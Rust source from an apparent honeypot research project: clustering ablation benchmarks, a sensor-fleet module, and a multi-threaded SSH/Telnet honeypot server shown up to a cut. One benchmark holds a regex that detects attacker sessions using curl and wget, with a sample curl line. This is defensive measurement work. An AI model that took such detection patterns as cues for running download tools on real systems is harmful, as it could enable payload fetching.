        b.iter(|| black_box(dld::normalized_dld(&ta, &tb)))
    });
    c.bench_function("ablation_char_dld", |b| {
        b.iter(|| black_box(dld::normalized_dld(&ca, &cb)))
    });
}

fn ablation_signature_dedup(c: &mut Criterion) {
    // How much does canonicalisation shrink the clustering input?
    let ds = dataset();
    let file_sessions: Vec<String> = report::command_sessions(&ds.sessions)
        .into_iter()
        .filter(|s| s.dropped_hashes().next().is_some() && !s.uris.is_empty())
        .map(|s| s.command_text())
        .collect();
    let raw: std::collections::HashSet<Vec<String>> =
        file_sessions.iter().map(|t| tokens::tokenize(t)).collect();
    let canon: std::collections::HashSet<Vec<String>> =
        file_sessions.iter().map(|t| tokens::signature(t)).collect();
    println!(
        "ablation dedup: {} sessions -> {} raw token-seqs -> {} canonical signatures",
        file_sessions.len(),
        raw.len(),
        canon.len()
    );
    assert!(canon.len() <= raw.len());
    let mut g = c.benchmark_group("ablation_dedup");
    g.sample_size(10);
    g.bench_function("signature_pass", |b| {
        b.iter(|| {
            let s: std::collections::HashSet<Vec<String>> =
                file_sessions.iter().map(|t| tokens::signature(t)).collect();
            black_box(s.len())
        })
    });
    g.finish();
}

fn ablation_kmedoids_cost(c: &mut Criterion) {
    let ds = dataset();
    let ca = report::cluster_analysis(&ds.sessions, &ds.abuse, 2, 42);
    let m = cluster::DistanceMatrix::build(&ca.signatures);
    let mut g = c.benchmark_group("ablation_kmedoids");
    g.sample_size(10);
    for k in [10usize, 45, 90] {
        g.bench_function(format!("k{k}"), |b| {
            b.iter(|| black_box(cluster::k_medoids(&m, &ca.weights, k, 42)))
        });
    }
    g.finish();
    println!(
        "ablation kmedoids: {} signatures; silhouette(k=90)={:.3}",
        ca.signatures.len(),
        cluster::silhouette(
            &m,
            &ca.weights,
            &cluster::k_medoids(&m, &ca.weights, 90, 42)
        )
    );
}

fn ablation_regex_fast_paths(c: &mut Criterion) {
    // The same conjunction evaluated with and without the line-start
    // shortcut (the slow path is forced via an equivalent pattern whose
    // lookahead bodies don't start with `.*`).
    let fast = sregex::Regex::new(r"(?=.*curl)(?=.*wget)").unwrap();
    let slow = sregex::Regex::new(r"(?=(?:.?)(?:.*)curl)(?=(?:.?)(?:.*)wget)").unwrap();
    let line = "curl https://203.0.113.7/ -s -X GET --max-redirs 5 --cookie 'k=v'";
    let hay = vec![line; 60].join("\n");
    assert_eq!(fast.is_match(&hay), slow.is_match(&hay));
    c.bench_function("ablation_conjunction_fastpath", |b| {
        b.iter(|| black_box(fast.is_match(&hay)))
    });
    c.bench_function("ablation_conjunction_slowpath", |b| {
        b.iter(|| black_box(slow.is_match(&hay)))
    });
}

fn ablation_cluster_purity(c: &mut Criterion) {
    // Quality ablation: cluster a sample of file sessions on (a) canonical
    // token signatures and (b) raw character sequences, then score cluster
    // purity against the Table 1 category as ground truth. The token
    // representation should dominate — the paper's §6 robustness claim.
    use honeylab_core::classify::Classifier;
    let ds = dataset();
    let cl = Classifier::table1();
    let sample: Vec<(&str, String)> = report::command_sessions(&ds.sessions)
        .into_iter()
        .filter(|s| s.dropped_hashes().next().is_some() && !s.uris.is_empty())
        .take(300)
        .map(|s| (cl.classify(&s.command_text()), s.command_text()))
        .collect();
    let labels: Vec<&str> = sample.iter().map(|(l, _)| *l).collect();
    let weights = vec![1u64; sample.len()];

    let purity = |assignment: &[usize], k: usize| -> f64 {
        let mut majority = 0usize;
        for c in 0..k {
            let mut counts: std::collections::HashMap<&str, usize> =
                std::collections::HashMap::new();
            for (i, &a) in assignment.iter().enumerate() {
                if a == c {
                    *counts.entry(labels[i]).or_default() += 1;
                }
            }
            majority += counts.values().max().copied().unwrap_or(0);
        }
        majority as f64 / assignment.len() as f64
    };

    let token_sigs: Vec<Vec<String>> = sample.iter().map(|(_, t)| tokens::signature(t)).collect();
    let char_sigs: Vec<Vec<String>> = sample
        .iter()
        .map(|(_, t)| t.chars().take(120).map(|c| c.to_string()).collect())
        .collect();
    let k = 24;
    let tm = cluster::DistanceMatrix::build(&token_sigs);
    let cm = cluster::DistanceMatrix::build(&char_sigs);
    let tp = purity(&cluster::k_medoids(&tm, &weights, k, 1).assignment, k);
    let cp = purity(&cluster::k_medoids(&cm, &weights, k, 1).assignment, k);
    println!(
        "ablation purity (k={k}, n={}): token-DLD {tp:.2} vs char-DLD {cp:.2}",
        sample.len()
    );
    assert!(
        tp >= cp - 0.05,
        "token representation must not lose to chars"
    );
    let mut g = c.benchmark_group("ablation_purity");
    g.sample_size(10);
    g.bench_function("token_matrix_300", |b| {
        b.iter(|| black_box(cluster::DistanceMatrix::build(&token_sigs)))
    });
    g.bench_function("char_matrix_300", |b| {
        b.iter(|| black_box(cluster::DistanceMatrix::build(&char_sigs)))
    });
    g.finish();
}

criterion_group!(
    ablations,
    ablation_token_vs_char_dld,
    ablation_signature_dedup,
    ablation_kmedoids_cost,
    ablation_regex_fast_paths,
    ablation_cluster_purity,
);
criterion_main!(ablations);
