//! The sensor fleet (paper §3.1, §3.3).
//!
//! 221 identically configured honeypots in 55 countries and 65 ASes, with
//! one fleet-wide 48-hour maintenance outage on 2023-10-08/09 during which
//! no sessions were recorded.

use hutil::{Date, DateTime};
use netsim::Ipv4Addr;

/// First instant of the maintenance window (inclusive).
pub fn maintenance_start() -> DateTime {
    Date::new(2023, 10, 8).at_midnight()
}

/// First instant after the maintenance window (exclusive).
pub fn maintenance_end() -> DateTime {
    Date::new(2023, 10, 10).at_midnight()
}

/// One sensor.
#[derive(Debug, Clone)]
pub struct Honeypot {
    /// Dense id, 0..221.
    pub id: u16,
    /// The sensor's public address.
    pub ip: Ipv4Addr,
    /// AS announcing that address.
    pub asn: u32,
    /// ISO-3166-ish country index 0..55 (identities are irrelevant to the
    /// analysis; only the count matters).
    pub country: u8,
}

/// The whole honeynet.
#[derive(Debug, Clone)]
pub struct Fleet {
    sensors: Vec<Honeypot>,
}

impl Fleet {
    /// Paper-scale fleet: 221 sensors over 65 ASes and 55 countries.
    pub const PAPER_SENSORS: usize = 221;
    /// Number of distinct hosting ASes.
    pub const PAPER_ASES: usize = 65;
    /// Number of distinct countries.
    pub const PAPER_COUNTRIES: usize = 55;

    /// Builds the fleet from the honeypot ASes of the synthetic world.
    /// `as_addrs` supplies `(asn, address)` pairs to draw sensor IPs from;
    /// sensors are spread round-robin over ASes and countries.
    pub fn new(mut as_addrs: impl FnMut(usize) -> (u32, Ipv4Addr), n_sensors: usize) -> Self {
        let sensors = (0..n_sensors)
            .map(|i| {
                let (asn, ip) = as_addrs(i);
                Honeypot {
                    id: i as u16,
                    ip,
                    asn,
                    country: (i % Self::PAPER_COUNTRIES) as u8,
                }
            })
            .collect();
        Self { sensors }
    }

    /// All sensors.
    pub fn sensors(&self) -> &[Honeypot] {
        &self.sensors
    }

    /// Number of sensors.
    pub fn len(&self) -> usize {
        self.sensors.len()
    }

    /// Whether the fleet is empty.
    pub fn is_empty(&self) -> bool {
        self.sensors.is_empty()
    }

    /// Sensor by id.
    pub fn get(&self, id: u16) -> Option<&Honeypot> {
        self.sensors.get(id as usize)
    }

    /// Whether the fleet records sessions at `t` (false during the
    /// 2023-10-08/09 maintenance). Convenience over the fleet-wide window
    /// only; per-sensor availability lives in
    /// [`crate::outage::OutageSchedule`].
    pub fn online_at(&self, t: DateTime) -> bool {
        !(t >= maintenance_start() && t < maintenance_end())
    }

    /// Number of distinct ASes hosting sensors.
    pub fn distinct_ases(&self) -> usize {
        let mut asns: Vec<u32> = self.sensors.iter().map(|s| s.asn).collect();
        asns.sort_unstable();
        asns.dedup();
        asns.len()
    }

    /// Number of distinct countries hosting sensors.
    pub fn distinct_countries(&self) -> usize {
        let mut c: Vec<u8> = self.sensors.iter().map(|s| s.country).collect();
        c.sort_unstable();
        c.dedup();
        c.len()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn fleet() -> Fleet {
        Fleet::new(
            |i| {
                let asn = 65_000 + (i % Fleet::PAPER_ASES) as u32;
                let ip = Ipv4Addr::from_octets(100, (i / 250) as u8, (i % 250) as u8, 1);
                (asn, ip)
            },
            Fleet::PAPER_SENSORS,
        )
    }

    #[test]
    fn paper_scale_counts() {
        let f = fleet();
        assert_eq!(f.len(), 221);
        assert_eq!(f.distinct_ases(), 65);
        assert_eq!(f.distinct_countries(), 55);
        assert_eq!(f.get(0).unwrap().id, 0);
        assert!(f.get(221).is_none());
    }

    #[test]
    fn maintenance_window_is_exactly_48h() {
        let f = fleet();
        assert!(f.online_at(Date::new(2023, 10, 7).at(23, 59, 59)));
        assert!(!f.online_at(Date::new(2023, 10, 8).at_midnight()));
        assert!(!f.online_at(Date::new(2023, 10, 9).at(12, 0, 0)));
        assert!(!f.online_at(Date::new(2023, 10, 9).at(23, 59, 59)));
        assert!(f.online_at(Date::new(2023, 10, 10).at_midnight()));
        assert_eq!(maintenance_end().secs_since(maintenance_start()), 48 * 3600);
    }

    #[test]
    fn sensor_ips_are_distinct() {
        let f = fleet();
        let mut ips: Vec<_> = f.sensors().iter().map(|s| s.ip).collect();
        ips.sort_unstable();
        ips.dedup();
        assert_eq!(ips.len(), 221);
    }
}
