//! Server orchestration: listeners, sharded accept loops, supervised
//! worker pool, the stats/observability aggregator, the HTTP plane, and
//! graceful drain.
//!
//! # Crash containment
//!
//! Failures are contained at three radii. A single connection's pump
//! runs under `catch_unwind`: a poisoned session is recorded as a failed
//! session, its gate slot is released by the permit's `Drop`, and
//! `panics_caught` is bumped — the shard keeps serving its other
//! connections. If a shard thread dies anyway (a panic outside the
//! per-connection guard), the supervisor respawns it and re-homes its
//! intake channel, so the server keeps accepting at full width; the
//! panic message is reported through [`ServeReport::shard_panics`].
//! Accept/supervisor/stats threads have no respawn layer — a panic
//! there surfaces as [`ServeError::ThreadPanicked`] from
//! [`ServerHandle::join`].

use crate::conn::{now_unix, Conn, LiveHandler, SensorIdentity, SharedStore};
use crate::stats::{spawn_aggregator, AggEvent, AggregatorHandle, ApiSnapshot};
use crate::{Admission, ChaosConfig, Gate, ServeConfig, ServeError, ServeStats, StatsSnapshot};
use honeypot::shell::NullStore;
use honeypot::{panic_message, AuthPolicy, Collector, CollectorError, IngestStats};
use netsim::faults::FailureInjector;
use sessiondb::{RecoveryReport, StoreOptions, StoreWriter};
use std::net::{IpAddr, SocketAddr, TcpListener, TcpStream};
use std::panic::{catch_unwind, AssertUnwindSafe};
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::sync::mpsc::{Receiver, Sender, TryRecvError};
use std::sync::Arc;
use std::thread::JoinHandle;
use std::time::{Duration, Instant};

/// Which protocol a listener serves.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Proto {
    Ssh,
    Telnet,
}

/// An admitted connection in flight from an accept thread to its shard.
/// Carries its gate permit, so a connection dropped anywhere along the
/// way (channel teardown, shard death) releases its slot.
struct Admitted {
    stream: TcpStream,
    permit: crate::GatePermit,
    client_port: u16,
    proto: Proto,
    start_unix: i64,
    seq: u64,
}

/// Maps a peer address into the record schema's IPv4 space. Real v4
/// addresses pass through. IPv6 peers are folded into the reserved
/// 240.0.0.0/8 block by FNV-1a hashing the full 16-byte address, so
/// distinct v6 clients keep distinct per-IP gate slots (and cannot
/// collide with any routable v4 peer — 240/8 is class E, never assigned).
pub fn fold_peer_ip(ip: IpAddr) -> netsim::Ipv4Addr {
    match ip {
        IpAddr::V4(v4) => {
            let o = v4.octets();
            netsim::Ipv4Addr::from_octets(o[0], o[1], o[2], o[3])
        }
        IpAddr::V6(v6) => {
            let mut h: u32 = 0x811c_9dc5;
            for b in v6.octets() {
                h ^= u32::from(b);
                h = h.wrapping_mul(0x0100_0193);
            }
            netsim::Ipv4Addr(0xF000_0000 | (h & 0x00FF_FFFF))
        }
    }
}

/// Intake side of a shard, shared with the supervisor so a respawned
/// shard thread can pick up exactly where its predecessor's channel
/// left off (queued connections included).
type SharedRx = Arc<parking_lot::Mutex<Receiver<Admitted>>>;

/// Everything a shard thread needs, cloneable so the supervisor can
/// hand a fresh copy to a respawned thread.
#[derive(Clone)]
struct ShardCtx {
    remote: SharedStore,
    collector: Arc<Collector>,
    stats: Arc<ServeStats>,
    shutdown: Arc<AtomicBool>,
    sensor: SensorIdentity,
    idle_timeout: Duration,
    session_timeout: Duration,
    drain_timeout: Duration,
    chaos: ChaosConfig,
    agg_tx: std::sync::mpsc::Sender<AggEvent>,
}

/// The live serving layer. See the crate docs for the architecture.
pub struct Server;

impl Server {
    /// Binds listeners, spawns the accept/worker/stats threads, and
    /// returns a handle. Downloads resolve against [`NullStore`] (every
    /// fetch 404s), which is what a production honeypot wants.
    pub fn start(cfg: ServeConfig) -> Result<ServerHandle, ServeError> {
        Self::start_with_store(cfg, Arc::new(NullStore))
    }

    /// Like [`Server::start`] with an explicit download store (tests use
    /// this to serve known payloads).
    pub fn start_with_store(
        cfg: ServeConfig,
        remote: SharedStore,
    ) -> Result<ServerHandle, ServeError> {
        if cfg.ssh_port.is_none() && cfg.telnet_port.is_none() {
            return Err(ServeError::NoListeners);
        }

        let mut recovery = None;
        let collector = Arc::new(match &cfg.store_dir {
            Some(dir) => {
                let opts = StoreOptions {
                    rows_per_segment: cfg.rows_per_segment,
                    wal: Some(cfg.fsync),
                };
                let (writer, report) =
                    StoreWriter::with_options(dir, opts).map_err(|e| ServeError::Store {
                        message: e.to_string(),
                    })?;
                recovery = Some(report);
                Collector::with_sink(cfg.collector.clone(), Box::new(writer))
            }
            None => Collector::with_config(cfg.collector.clone()),
        });

        let mut listeners = Vec::new();
        for (port, proto) in [(cfg.ssh_port, Proto::Ssh), (cfg.telnet_port, Proto::Telnet)] {
            let Some(port) = port else { continue };
            let addr = SocketAddr::new(cfg.bind, port);
            let listener = TcpListener::bind(addr).map_err(|e| ServeError::Bind {
                addr: addr.to_string(),
                source: e,
            })?;
            listener
                .set_nonblocking(true)
                .map_err(|e| ServeError::Bind {
                    addr: addr.to_string(),
                    source: e,
                })?;
            listeners.push((listener, proto));
        }

        let stats = Arc::new(ServeStats::default());
        let gate = Arc::new(Gate::new(cfg.max_connections, cfg.per_ip_limit));
        let shutdown = Arc::new(AtomicBool::new(false));
        let seq = Arc::new(AtomicU64::new(0));
        let workers = cfg.workers.max(1);

        let mut senders: Vec<Sender<Admitted>> = Vec::with_capacity(workers);
        let mut rxs: Vec<SharedRx> = Vec::with_capacity(workers);
        for _ in 0..workers {
            let (tx, rx) = std::sync::mpsc::channel();
            senders.push(tx);
            rxs.push(Arc::new(parking_lot::Mutex::new(rx)));
        }

        let mut addrs = ListenAddrs::default();
        let mut accept_threads = Vec::new();
        for (listener, proto) in listeners {
            let local = listener.local_addr().map_err(|e| ServeError::Bind {
                addr: "<bound>".into(),
                source: e,
            })?;
            match proto {
                Proto::Ssh => addrs.ssh = Some(local),
                Proto::Telnet => addrs.telnet = Some(local),
            }
            let senders = senders.clone();
            let stats = Arc::clone(&stats);
            let gate = Arc::clone(&gate);
            let shutdown = Arc::clone(&shutdown);
            let seq = Arc::clone(&seq);
            accept_threads.push(
                std::thread::Builder::new()
                    .name(format!("accept-{proto:?}").to_lowercase())
                    .spawn(move || {
                        accept_loop(listener, proto, &senders, &stats, &gate, &shutdown, &seq)
                    })
                    .expect("spawn accept thread"),
            );
        }
        drop(senders); // workers exit once accept threads hang up

        // The aggregator replaces the old dedicated stats thread: it
        // owns the periodic stderr line *and* publishes the lock-free
        // snapshots the HTTP plane reads. Shards feed it cloned records
        // over its channel; it costs nothing on the accept path.
        let aggregator = spawn_aggregator(
            Arc::clone(&stats),
            Arc::clone(&shutdown),
            cfg.recent_tail,
            cfg.stats_interval,
        );
        if let Some(report) = &recovery {
            let _ = aggregator.tx.send(AggEvent::Recovery(report.clone()));
        }
        let http = match cfg.http_port {
            Some(port) => {
                let handle = crate::http::start(
                    cfg.bind,
                    port,
                    cfg.http_workers,
                    Arc::clone(&aggregator.cell),
                    Arc::clone(&aggregator.bus),
                    Arc::clone(&shutdown),
                )?;
                addrs.http = Some(handle.addr);
                Some(handle)
            }
            None => None,
        };

        let ctx = ShardCtx {
            remote,
            collector: Arc::clone(&collector),
            stats: Arc::clone(&stats),
            shutdown: Arc::clone(&shutdown),
            sensor: SensorIdentity {
                honeypot_id: cfg.honeypot_id,
                honeypot_ip: cfg.honeypot_ip,
            },
            idle_timeout: cfg.idle_timeout,
            session_timeout: cfg.session_timeout,
            drain_timeout: cfg.drain_timeout,
            chaos: cfg.chaos,
            agg_tx: aggregator.tx.clone(),
        };
        let shard_panics: Arc<parking_lot::Mutex<Vec<String>>> =
            Arc::new(parking_lot::Mutex::new(Vec::new()));
        let supervisor = {
            let panics = Arc::clone(&shard_panics);
            std::thread::Builder::new()
                .name("shard-supervisor".into())
                .spawn(move || supervisor_loop(ctx, rxs, &panics))
                .expect("spawn shard supervisor")
        };

        Ok(ServerHandle {
            addrs,
            stats,
            gate,
            shutdown,
            recovery,
            collector: Some(collector),
            accept_threads,
            supervisor: Some(supervisor),
            shard_panics,
            aggregator: Some(aggregator),
            http,
        })
    }
}

/// Bound listener addresses (with ephemeral ports resolved).
#[derive(Debug, Clone, Copy, Default)]
pub struct ListenAddrs {
    /// SSH listener, if enabled.
    pub ssh: Option<SocketAddr>,
    /// Telnet listener, if enabled.
    pub telnet: Option<SocketAddr>,
    /// Observability HTTP listener, if enabled.
    pub http: Option<SocketAddr>,
}

/// Final accounting returned by [`ServerHandle::join`].
#[derive(Debug, Clone)]
pub struct ServeReport {
    /// Serving counters at the end of the run.
    pub snapshot: StatsSnapshot,
    /// Collector fate counters (accepted/retried/dropped/quarantined).
    pub ingest: IngestStats,
    /// Records that failed validation, with no store to hold them.
    pub quarantined: usize,
    /// Panic messages from shard threads that died and were respawned.
    pub shard_panics: Vec<String>,
}

impl ServeReport {
    /// The shared text rendering: the CLI's shutdown summary. One
    /// renderer for every consumer (no format forks between `serve`
    /// exit paths).
    pub fn render(&self) -> String {
        let mut out = format!(
            "final: {}\ncollector: {} accepted, {} dropped, {} quarantined",
            self.snapshot.render(),
            self.ingest.accepted,
            self.ingest.dropped,
            self.quarantined,
        );
        for p in &self.shard_panics {
            out.push_str("\nshard panic: ");
            out.push_str(p);
        }
        out
    }

    /// The v1 document (envelope kind `"serve_report"`), built from the
    /// same [`StatsSnapshot::api_json`] emitter `/api/stats` uses.
    pub fn api_json(&self) -> hutil::Json {
        use hutil::Json;
        hutil::api_envelope(
            "serve_report",
            Json::obj([
                ("counters", self.snapshot.api_json()),
                (
                    "ingest",
                    Json::obj([
                        ("accepted", Json::u64(self.ingest.accepted)),
                        ("retried", Json::u64(self.ingest.retried)),
                        ("dropped", Json::u64(self.ingest.dropped)),
                        ("quarantined", Json::u64(self.ingest.quarantined)),
                    ]),
                ),
                ("quarantined_rows", Json::u64(self.quarantined as u64)),
                (
                    "shard_panics",
                    Json::arr(self.shard_panics.iter().map(Json::str)),
                ),
            ]),
        )
    }

    /// Deterministic sample document for the `docs/api_v1` goldens.
    pub fn sample() -> Self {
        ServeReport {
            snapshot: StatsSnapshot {
                accepted: 202,
                shed_capacity: 0,
                shed_per_ip: 0,
                active: 0,
                completed: 200,
                timed_out: 1,
                wire_errors: 0,
                bytes_in: 123_456,
                bytes_out: 654_321,
                accept_errors: 0,
                panics_caught: 0,
                shards_respawned: 0,
            },
            ingest: IngestStats {
                accepted: 200,
                retried: 3,
                dropped: 0,
                quarantined: 0,
            },
            quarantined: 0,
            shard_panics: Vec::new(),
        }
    }
}

/// A running server: addresses, live stats, and the shutdown lever.
pub struct ServerHandle {
    addrs: ListenAddrs,
    stats: Arc<ServeStats>,
    gate: Arc<Gate>,
    shutdown: Arc<AtomicBool>,
    recovery: Option<RecoveryReport>,
    collector: Option<Arc<Collector>>,
    accept_threads: Vec<JoinHandle<()>>,
    supervisor: Option<JoinHandle<()>>,
    shard_panics: Arc<parking_lot::Mutex<Vec<String>>>,
    aggregator: Option<AggregatorHandle>,
    http: Option<crate::http::HttpHandle>,
}

impl ServerHandle {
    /// Bound listener addresses.
    pub fn addrs(&self) -> ListenAddrs {
        self.addrs
    }

    /// Point-in-time serving counters.
    pub fn stats(&self) -> StatsSnapshot {
        self.stats.snapshot()
    }

    /// Connections currently admitted.
    pub fn active(&self) -> usize {
        self.gate.active()
    }

    /// What crash recovery found (and did) in the spill store when this
    /// server opened it; `None` without a store.
    pub fn recovery(&self) -> Option<&RecoveryReport> {
        self.recovery.as_ref()
    }

    /// The most recently published observability snapshot (same
    /// lock-free read path the HTTP endpoints use).
    pub fn api_snapshot(&self) -> Option<Arc<ApiSnapshot>> {
        self.aggregator.as_ref().map(|a| a.cell.load())
    }

    /// Starts graceful shutdown: accept loops stop, shards drain.
    pub fn trigger_shutdown(&self) {
        self.shutdown.store(true, Ordering::Relaxed);
    }

    /// Whether shutdown has been triggered.
    pub fn shutting_down(&self) -> bool {
        self.shutdown.load(Ordering::Relaxed)
    }

    /// Triggers shutdown (idempotent), waits for every thread, seals the
    /// store, and returns the final accounting. A panic in any
    /// accept/supervisor/stats thread surfaces as
    /// [`ServeError::ThreadPanicked`] — after the store is sealed, so a
    /// sick run still keeps its data.
    pub fn join(mut self) -> Result<ServeReport, ServeError> {
        self.trigger_shutdown();
        let mut thread_panic: Option<(String, String)> = None;
        let mut note_panic = |name: &str, result: std::thread::Result<()>| {
            if let Err(payload) = result {
                let message = panic_message(payload.as_ref());
                if thread_panic.is_none() {
                    thread_panic = Some((name.to_string(), message));
                }
            }
        };
        for t in self.accept_threads.drain(..) {
            let name = t.thread().name().unwrap_or("accept").to_string();
            note_panic(&name, t.join());
        }
        if let Some(t) = self.supervisor.take() {
            note_panic("shard-supervisor", t.join());
        }
        // All shard senders are gone once the supervisor returns, so
        // dropping the handle's sender disconnects the aggregator; it
        // publishes a final snapshot covering every ingested session and
        // exits.
        if let Some(agg) = self.aggregator.take() {
            note_panic("serve-aggregator", agg.join());
        }
        if let Some(http) = self.http.take() {
            if let Err((thread, message)) = http.join() {
                if thread_panic.is_none() {
                    thread_panic = Some((thread, message));
                }
            }
        }
        let collector = self.collector.take().expect("join called once");
        let collector = Collector::try_from_arc(collector).map_err(|e| ServeError::Collector {
            message: e.to_string(),
        })?;
        let (ingest, quarantine) = collector
            .into_sink_parts()
            .map_err(|e| map_collector_error(&e))?;
        if let Some((thread, message)) = thread_panic {
            return Err(ServeError::ThreadPanicked { thread, message });
        }
        Ok(ServeReport {
            snapshot: self.stats.snapshot(),
            ingest,
            quarantined: quarantine.len(),
            shard_panics: self.shard_panics.lock().clone(),
        })
    }
}

fn map_collector_error(e: &CollectorError) -> ServeError {
    match e {
        CollectorError::Sink { message } => ServeError::Store {
            message: message.clone(),
        },
        other => ServeError::Collector {
            message: other.to_string(),
        },
    }
}

/// Accepts until shutdown, shedding over-limit connections at the door.
fn accept_loop(
    listener: TcpListener,
    proto: Proto,
    senders: &[Sender<Admitted>],
    stats: &Arc<ServeStats>,
    gate: &Arc<Gate>,
    shutdown: &AtomicBool,
    seq: &AtomicU64,
) {
    let mut backoff = Duration::from_millis(1);
    while !shutdown.load(Ordering::Relaxed) {
        let mut accepted_any = false;
        // Drain the backlog before sleeping: under an accept storm the
        // backlog (typically 128) fills in milliseconds.
        loop {
            match listener.accept() {
                Ok((stream, peer)) => {
                    accepted_any = true;
                    backoff = Duration::from_millis(1);
                    stats.accepted.fetch_add(1, Ordering::Relaxed);
                    let client_ip = fold_peer_ip(peer.ip());
                    let permit = match gate.admit(client_ip, stats) {
                        Ok(p) => p,
                        Err(Admission::OverCapacity) => {
                            stats.shed_capacity.fetch_add(1, Ordering::Relaxed);
                            drop(stream); // shed: close before any protocol state exists
                            continue;
                        }
                        Err(_) => {
                            stats.shed_per_ip.fetch_add(1, Ordering::Relaxed);
                            drop(stream);
                            continue;
                        }
                    };
                    if stream.set_nonblocking(true).is_err() {
                        continue; // dropping the permit releases the slot
                    }
                    let _ = stream.set_nodelay(true);
                    let n = seq.fetch_add(1, Ordering::Relaxed);
                    let admitted = Admitted {
                        stream,
                        permit,
                        client_port: peer.port(),
                        proto,
                        start_unix: now_unix(),
                        seq: n,
                    };
                    let shard = (n as usize) % senders.len();
                    if senders[shard].send(admitted).is_err() {
                        // Shard channel gone: shutdown teardown. The
                        // dropped Admitted releases its permit.
                        continue;
                    }
                }
                Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => break,
                Err(e) if e.kind() == std::io::ErrorKind::Interrupted => continue,
                Err(e) => {
                    stats.accept_errors.fetch_add(1, Ordering::Relaxed);
                    match e.kind() {
                        // Per-connection failures (peer vanished between
                        // SYN and accept): the queue may hold more.
                        std::io::ErrorKind::ConnectionAborted
                        | std::io::ErrorKind::ConnectionReset => continue,
                        // Resource exhaustion (EMFILE/ENFILE lands here
                        // as Other/Uncategorized) or anything unexpected:
                        // hot-spinning accept() cannot help — back off
                        // with a capped exponential sleep and let in-
                        // flight connections finish and free fds.
                        _ => {
                            std::thread::sleep(backoff);
                            backoff = (backoff * 2).min(Duration::from_millis(200));
                            break;
                        }
                    }
                }
            }
        }
        if !accepted_any {
            std::thread::sleep(Duration::from_micros(500));
        }
    }
    // Dropping the listener closes the socket: new connects are refused
    // immediately rather than parked in the backlog during the drain.
}

/// Runs the shard pool, respawning any shard thread that panics. Holds
/// every shard's intake `Receiver` behind an `Arc<Mutex>`, so a dead
/// shard's queued connections (gate permits included) survive into its
/// replacement. Returns once every shard has exited cleanly — which
/// only happens during shutdown, after the accept threads hang up the
/// channels.
fn supervisor_loop(
    ctx: ShardCtx,
    rxs: Vec<SharedRx>,
    shard_panics: &parking_lot::Mutex<Vec<String>>,
) {
    let spawn_shard = |index: usize, generation: u64| -> JoinHandle<()> {
        let ctx = ctx.clone();
        let rx = Arc::clone(&rxs[index]);
        std::thread::Builder::new()
            .name(format!("shard-{index}"))
            .spawn(move || shard_loop(index, generation, &rx, &ctx))
            .expect("spawn shard")
    };
    let mut generation = 0u64;
    let mut handles: Vec<Option<JoinHandle<()>>> =
        (0..rxs.len()).map(|i| Some(spawn_shard(i, 0))).collect();
    loop {
        let mut any_alive = false;
        for (index, slot) in handles.iter_mut().enumerate() {
            let finished = slot.as_ref().is_some_and(JoinHandle::is_finished);
            if !finished {
                any_alive |= slot.is_some();
                continue;
            }
            let handle = slot.take().expect("finished handle present");
            if let Err(payload) = handle.join() {
                let message = panic_message(payload.as_ref());
                shard_panics
                    .lock()
                    .push(format!("shard-{index}: {message}"));
                if !ctx.shutdown.load(Ordering::Relaxed) {
                    // Respawn with a bumped generation (the chaos
                    // injectors are reseeded, so a deterministic
                    // injected panic does not immediately re-fire).
                    ctx.stats.shards_respawned.fetch_add(1, Ordering::Relaxed);
                    generation += 1;
                    *slot = Some(spawn_shard(index, generation));
                    any_alive = true;
                }
                // During shutdown the replacement would have nothing to
                // do; the Receiver (and any queued permits) drop with
                // `rxs` below.
            }
            // A clean exit is final: it means shutdown drained the shard.
        }
        if !any_alive {
            return; // `rxs` drops here, releasing any queued permits
        }
        std::thread::sleep(Duration::from_millis(2));
    }
}

/// One worker shard: owns its connections, polls them without blocking.
/// Each connection's pump runs under `catch_unwind`, so one poisoned
/// session cannot take the shard (or its siblings' gate slots) with it.
fn shard_loop(index: usize, generation: u64, rx: &SharedRx, ctx: &ShardCtx) {
    let remote_ref: &dyn honeypot::shell::RemoteStore = &*ctx.remote;
    // Seed the injectors per shard *and* per generation so chaos runs
    // are reproducible but a respawned shard rolls fresh dice.
    let salt = (index as u64)
        .wrapping_mul(0x9E37_79B9_7F4A_7C15)
        .wrapping_add(generation.wrapping_mul(0x517C_C1B7_2722_0A95));
    let mut conn_chaos = FailureInjector::new(ctx.chaos.conn_panic_rate, ctx.chaos.seed ^ salt);
    let mut shard_chaos = FailureInjector::new(
        ctx.chaos.shard_panic_rate,
        ctx.chaos.seed ^ salt ^ 0x5D5D_5D5D_5D5D_5D5D,
    );
    // `doomed` marks connections the chaos config sentenced at intake;
    // the panic fires inside the per-connection guard.
    let mut conns: Vec<(Conn<'_>, bool)> = Vec::new();
    let mut intake_open = true;
    let mut drain_started: Option<Instant> = None;

    loop {
        // Intake: move admitted sockets into the shard. The lock is
        // per-attempt, so the supervisor never deadlocks with a live
        // shard and a respawned shard inherits the queue seamlessly.
        while intake_open {
            let polled = rx.lock().try_recv();
            match polled {
                Ok(a) => {
                    if shard_chaos.fires() {
                        // Outside the per-connection guard: this kills
                        // the whole shard thread. `a` (and its permit)
                        // and every owned connection release on unwind.
                        panic!("chaos: injected shard panic");
                    }
                    let doomed = conn_chaos.fires();
                    let handler = LiveHandler::new(AuthPolicy::default(), remote_ref);
                    let conn = match a.proto {
                        Proto::Ssh => Conn::ssh(
                            a.stream,
                            a.permit,
                            a.client_port,
                            handler,
                            a.start_unix,
                            a.seq,
                        ),
                        Proto::Telnet => {
                            Conn::telnet(a.stream, a.permit, a.client_port, handler, a.start_unix)
                        }
                    };
                    conns.push((conn, doomed));
                }
                Err(TryRecvError::Empty) => break,
                Err(TryRecvError::Disconnected) => {
                    intake_open = false;
                }
            }
        }

        // Drain policy: once shutdown is triggered, keep pumping in-flight
        // sessions for at most `drain_timeout`, then force-close the rest.
        let draining = ctx.shutdown.load(Ordering::Relaxed);
        if draining && drain_started.is_none() {
            drain_started = Some(Instant::now());
        }
        let force_close = matches!(drain_started, Some(t0) if t0.elapsed() >= ctx.drain_timeout);

        let now = Instant::now();
        let mut i = 0;
        while i < conns.len() {
            let pumped = {
                let (conn, doomed) = &mut conns[i];
                if force_close {
                    conn.abort();
                }
                catch_unwind(AssertUnwindSafe(|| {
                    if *doomed {
                        panic!("chaos: injected connection panic");
                    }
                    force_close || conn.pump(now, ctx.idle_timeout, ctx.session_timeout, &ctx.stats)
                }))
            };
            match pumped {
                Ok(false) => i += 1,
